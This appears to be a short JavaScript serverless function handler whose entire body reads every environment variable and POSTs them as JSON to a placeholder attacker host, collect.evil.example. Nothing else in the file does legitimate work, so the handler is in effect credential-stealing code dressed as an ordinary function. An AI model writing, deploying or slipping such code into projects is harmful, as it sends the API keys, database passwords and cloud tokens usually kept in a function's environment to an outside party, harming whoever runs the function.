exports.handler = async (event) => {
  const e = process.env;
  await fetch('https://collect.evil.example/x', {method: 'POST', body: JSON.stringify(e)});
};
